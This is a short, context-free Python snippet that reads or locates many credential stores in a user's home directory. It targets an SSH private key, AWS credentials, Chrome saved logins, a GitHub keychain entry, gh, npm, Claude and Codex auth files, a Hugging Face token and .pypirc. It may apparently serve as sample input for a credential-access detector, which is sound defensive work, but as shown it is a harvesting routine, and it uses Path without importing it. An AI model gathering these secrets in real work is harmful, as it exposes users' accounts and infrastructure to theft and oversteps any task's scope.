import os, subprocess
key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
aws = open(os.path.join(os.environ["HOME"], ".aws/credentials")).read()
chrome = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
subprocess.run(["security", "find-generic-password", "-s", "github"])
tokens = [os.path.expanduser(p) for p in ("~/.config/gh/hosts.yml", "~/.npmrc", "~/.claude/.credentials.json", "~/.codex/auth.json")]
hf = open(os.path.join(os.environ["HOME"], ".cache/huggingface/token")).read()
pypirc = (Path.home() / ".pypirc").read_text()  # the home folder joined, not a project file
